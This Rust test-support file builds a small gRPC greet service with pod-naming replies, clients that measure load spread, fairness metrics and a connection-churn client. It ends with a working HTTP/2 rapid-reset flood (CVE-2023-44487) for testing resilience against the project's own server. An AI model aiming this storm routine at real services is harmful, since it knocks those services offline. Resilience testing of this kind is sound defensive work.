//! "greet": a real gRPC service (tonic, hand-written bytes codec, no protoc) whose replies name
//! the pod that served them, and a client that keeps ONE channel and counts replies per pod.
//! Used by the demo and the discovery end-to-end tests.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use bytes::Bytes;
use tonic::{Request, Response, Status};

pub const METHOD: &str = "/greet.Greeter/SayHello";

pub use interceptor_test_support::codec::RawCodec;

type BoxFut<T> = std::pin::Pin<Box<dyn std::future::Future<Output = T> + Send>>;

struct SayHello(Arc<str>);

impl tonic::server::UnaryService<Bytes> for SayHello {
    type Response = Bytes;
    type Future = BoxFut<Result<Response<Bytes>, Status>>;
    fn call(&mut self, req: Request<Bytes>) -> Self::Future {
        let name = self.0.clone();
        Box::pin(async move {
            let who = String::from_utf8_lossy(req.get_ref()).to_string();
            Ok(Response::new(Bytes::from(format!(
                "hello {who} from {name}"
            ))))
        })
    }
}

#[derive(Clone)]
struct Greeter(Arc<str>);

impl tonic::server::NamedService for Greeter {
    const NAME: &'static str = "greet.Greeter";
}

impl tonic::codegen::Service<http::Request<tonic::body::Body>> for Greeter {
    type Response = http::Response<tonic::body::Body>;
    type Error = std::convert::Infallible;
    type Future = BoxFut<Result<Self::Response, Self::Error>>;

    fn poll_ready(&mut self, _cx: &mut Context<'_>) -> Poll<Result<(), Self::Error>> {
        Poll::Ready(Ok(()))
    }

    fn call(&mut self, req: http::Request<tonic::body::Body>) -> Self::Future {
        let name = self.0.clone();
        Box::pin(async move {
            let resp = if req.uri().path() == METHOD {
                tonic::server::Grpc::new(RawCodec)
                    .unary(SayHello(name), req)
                    .await
            } else {
                Status::unimplemented(req.uri().path().to_string()).into_http()
            };
            Ok(resp)
        })
    }
}

/// Serves greet on `host:port` (`::` is every address, dual-stack) until the process ends;
/// prints READY.
pub fn serve(name: &str, host: std::net::IpAddr, port: u16) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("runtime");
    let name: Arc<str> = Arc::from(name);
    rt.block_on(async move {
        let listener = tokio::net::TcpListener::bind((host, port))
            .await
            .expect("bind greet server");
        println!("READY");
        let incoming =
            tonic::transport::server::TcpIncoming::from(listener).with_nodelay(Some(true));
        tonic::transport::Server::builder()
            .add_service(Greeter(name))
            .serve_with_incoming(incoming)
            .await
            .expect("greet server");
    });
}

/// What the client saw so far.
#[derive(Debug, Default, Clone)]
pub struct Tally {
    pub by_pod: BTreeMap<String, u64>,
    pub errors: u64,
    pub last_error: Option<String>,
}

/// One channel (one HTTP/2 connection) to `target`; `concurrency` callers loop on SayHello
/// for `duration` (the caller may kill it earlier). Prints a progress line every `report`:
/// `TALLY <ms since start> <errors> pod=count pod=count ...` (cumulative), then `DONE`.
pub fn client(target: SocketAddr, concurrency: usize, duration: Duration, report: Duration) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async move {
        let channel = tonic::transport::Endpoint::from_shared(format!("http://{target}"))
            .expect("uri")
            .tcp_nodelay(true)
            .connect_timeout(Duration::from_secs(5))
            .connect()
            .await
            .expect("connect the greet channel");
        let tally = Arc::new(Mutex::new(Tally::default()));
        let started = Instant::now();
        let deadline = started + duration;
        let mut workers = tokio::task::JoinSet::new();
        for w in 0..concurrency {
            let mut grpc = tonic::client::Grpc::new(channel.clone());
            let tally = tally.clone();
            workers.spawn(async move {
                let path = http::uri::PathAndQuery::from_static(METHOD);
                while Instant::now() < deadline {
                    let call = async {
                        grpc.ready()
                            .await
                            .map_err(|e| Status::unavailable(e.to_string()))?;
                        grpc.unary(
                            Request::new(Bytes::from(format!("w{w}"))),
                            path.clone(),
                            RawCodec,
                        )
                        .await
                    };
                    let result = tokio::time::timeout(Duration::from_secs(5), call).await;
                    let mut t = tally.lock().expect("tally");
                    match result {
                        Ok(Ok(resp)) => {
                            let text = String::from_utf8_lossy(resp.get_ref()).to_string();
                            let pod = text.rsplit(" from ").next().unwrap_or("?").to_string();
                            *t.by_pod.entry(pod).or_default() += 1;
                        }
                        Ok(Err(status)) => {
                            t.errors += 1;
                            t.last_error =
                                Some(format!("{:?}: {}", status.code(), status.message()));
                        }
                        Err(_) => {
                            t.errors += 1;
                            t.last_error = Some("call timed out after 5 s".into());
                        }
                    }
                }
            });
        }
        let print = |t: &Tally| {
            let pods: Vec<String> = t.by_pod.iter().map(|(p, n)| format!("{p}={n}")).collect();
            println!(
                "TALLY {} {} {}",
                started.elapsed().as_millis(),
                t.errors,
                pods.join(" ")
            );
            if let Some(e) = &t.last_error {
                println!("LAST_ERROR {e}");
            }
        };
        let mut tick = tokio::time::interval(report);
        loop {
            tokio::select! {
                _ = tick.tick() => print(&tally.lock().expect("tally")),
                done = workers.join_next() => if done.is_none() { break },
            }
        }
        print(&tally.lock().expect("tally"));
        println!("DONE");
    });
}

/// A parsed TALLY line.
#[derive(Debug, Clone, Default)]
pub struct TallyLine {
    pub at: Duration,
    pub errors: u64,
    pub by_pod: BTreeMap<String, u64>,
}

pub fn parse_tally(line: &str) -> Option<TallyLine> {
    let mut f = line.strip_prefix("TALLY ")?.split_whitespace();
    let at = Duration::from_millis(f.next()?.parse().ok()?);
    let errors = f.next()?.parse().ok()?;
    let by_pod = f
        .filter_map(|kv| kv.split_once('='))
        .filter_map(|(k, v)| Some((k.to_string(), v.parse().ok()?)))
        .collect();
    Some(TallyLine { at, errors, by_pod })
}

impl TallyLine {
    /// Calls per pod between `earlier` and this line (pods with none are left out).
    pub fn since(&self, earlier: &TallyLine) -> BTreeMap<String, u64> {
        self.by_pod
            .iter()
            .map(|(p, n)| (p.clone(), n - earlier.by_pod.get(p).copied().unwrap_or(0)))
            .filter(|(_, n)| *n > 0)
            .collect()
    }
}

/// Jain's fairness index of `counts` over `pods` (pods with no calls count as 0).
pub fn jain(counts: &BTreeMap<String, u64>, pods: &[String]) -> f64 {
    let xs: Vec<f64> = pods
        .iter()
        .map(|p| counts.get(p).copied().unwrap_or(0) as f64)
        .collect();
    let sum: f64 = xs.iter().sum();
    let sq: f64 = xs.iter().map(|x| x * x).sum();
    if sq == 0.0 {
        return 0.0;
    }
    sum * sum / (xs.len() as f64 * sq)
}

/// Largest count over the mean, over `pods`.
pub fn max_over_mean(counts: &BTreeMap<String, u64>, pods: &[String]) -> f64 {
    let xs: Vec<f64> = pods
        .iter()
        .map(|p| counts.get(p).copied().unwrap_or(0) as f64)
        .collect();
    let mean = xs.iter().sum::<f64>() / xs.len().max(1) as f64;
    let max = xs.iter().cloned().fold(0.0, f64::max);
    if mean == 0.0 {
        0.0
    } else {
        max / mean
    }
}

/// `runs` fresh channels to `target`, each carrying `calls` unary calls spread over
/// `concurrency` callers, each call with `deadline`. Prints the interop tests' RESULT line
/// (`crate::interop::CallResult`), as the grpcio and grpc-js peers do.
pub fn counted_calls(
    target: SocketAddr,
    runs: usize,
    calls: usize,
    concurrency: usize,
    deadline: Duration,
) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("runtime");
    let result = Arc::new(Mutex::new(crate::interop::CallResult::default()));
    rt.block_on(async {
        for _ in 0..runs {
            let channel = tonic::transport::Endpoint::from_shared(format!("http://{target}"))
                .expect("uri")
                .tcp_nodelay(true)
                .connect_timeout(Duration::from_secs(5))
                .connect_lazy();
            let mut callers = tokio::task::JoinSet::new();
            for i in 0..concurrency {
                let share = calls / concurrency + usize::from(i < calls % concurrency);
                let mut grpc = tonic::client::Grpc::new(channel.clone());
                let result = result.clone();
                callers.spawn(async move {
                    let path = http::uri::PathAndQuery::from_static(METHOD);
                    for _ in 0..share {
                        let call = async {
                            grpc.ready()
                                .await
                                .map_err(|e| Status::unavailable(e.to_string()))?;
                            let mut req = Request::new(Bytes::from_static(b"x"));
                            req.set_timeout(deadline);
                            grpc.unary(req, path.clone(), RawCodec).await
                        };
                        // The client's own bound, a little past the deadline it sent.
                        let outcome = tokio::time::timeout(deadline + Duration::from_secs(1), call)
                            .await
                            .unwrap_or_else(|_| {
                                Err(Status::deadline_exceeded("client-side timeout"))
                            });
                        let mut r = result.lock().expect("result");
                        match outcome {
                            Ok(resp) => {
                                let text = String::from_utf8_lossy(resp.get_ref()).to_string();
                                r.ok(text.rsplit(" from ").next().unwrap_or("?"));
                            }
                            Err(status) => {
                                r.failed(&format!("{:?}: {}", status.code(), status.message()))
                            }
                        }
                    }
                });
            }
            while callers.join_next().await.is_some() {}
        }
    });
    let r = result.lock().expect("result");
    println!(
        "RESULT {}",
        serde_json::to_string(&*r).expect("result JSON")
    );
}

/// A client that opens a NEW channel for every call, one call every `interval`, for
/// `duration` (each channel is a new TCP connect to `target`). Prints
/// `CHURN <ok> <failed>` and, if any failed, `LAST_ERROR ...`, then `DONE`.
pub fn churn(target: std::net::SocketAddr, duration: Duration, interval: Duration) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async move {
        let (mut ok, mut failed, mut last_error) = (0u64, 0u64, None::<String>);
        let deadline = Instant::now() + duration;
        while Instant::now() < deadline {
            let call = async {
                let channel = tonic::transport::Endpoint::from_shared(format!("http://{target}"))
                    .map_err(|e| Status::internal(e.to_string()))?
                    .tcp_nodelay(true)
                    .connect_timeout(Duration::from_secs(5))
                    .connect()
                    .await
                    .map_err(|e| Status::unavailable(format!("connect: {e}")))?;
                let mut grpc = tonic::client::Grpc::new(channel);
                grpc.ready()
                    .await
                    .map_err(|e| Status::unavailable(e.to_string()))?;
                grpc.unary(
                    Request::new(Bytes::from_static(b"churn")),
                    http::uri::PathAndQuery::from_static(METHOD),
                    RawCodec,
                )
                .await
            };
            match tokio::time::timeout(Duration::from_secs(5), call).await {
                Ok(Ok(_)) => ok += 1,
                Ok(Err(status)) => {
                    failed += 1;
                    last_error = Some(format!("{:?}: {}", status.code(), status.message()));
                }
                Err(_) => {
                    failed += 1;
                    last_error = Some("call timed out after 5 s".into());
                }
            }
            tokio::time::sleep(interval).await;
        }
        println!("CHURN {ok} {failed}");
        if let Some(e) = last_error {
            println!("LAST_ERROR {e}");
        }
        println!("DONE");
    });
}

/// A rapid-reset storm (CVE-2023-44487) on ONE HTTP/2 connection to `target`: SayHello
/// streams, each cancelled as soon as it is sent, until the connection is closed, `max`
/// streams were sent or `duration` passed. Prints `STORM <streams sent> <how it ended>`.
pub fn storm(target: SocketAddr, max: usize, duration: Duration) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async move {
        let tcp = tokio::net::TcpStream::connect(target)
            .await
            .expect("connect for the storm");
        let (mut send, conn) = h2::client::handshake(tcp).await.expect("h2 handshake");
        let conn = tokio::spawn(conn);
        let mut sent = 0;
        let storm = async {
            while sent < max {
                send = match send.ready().await {
                    Ok(s) => s,
                    Err(e) => return format!("closed: {e}"),
                };
                let req = http::Request::builder()
                    .method("POST")
                    .uri(format!("http://{target}{METHOD}"))
                    .header("content-type", "application/grpc")
                    .body(())
                    .expect("request");
                match send.send_request(req, false) {
                    Ok((_response, mut body)) => {
                        // The connection task writes the HEADERS first: h2 drops a stream
                        // reset before it was sent without a frame.
                        tokio::task::yield_now().await;
                        body.send_reset(h2::Reason::CANCEL)
                    }
                    Err(e) => return format!("closed: {e}"),
                }
                sent += 1;
            }
            "still open after the last stream".to_string()
        };
        let ended = tokio::time::timeout(duration, storm)
            .await
            .unwrap_or_else(|_| "still open at the time limit".to_string());
        conn.abort();
        println!("STORM {sent} {ended}");
    });
}
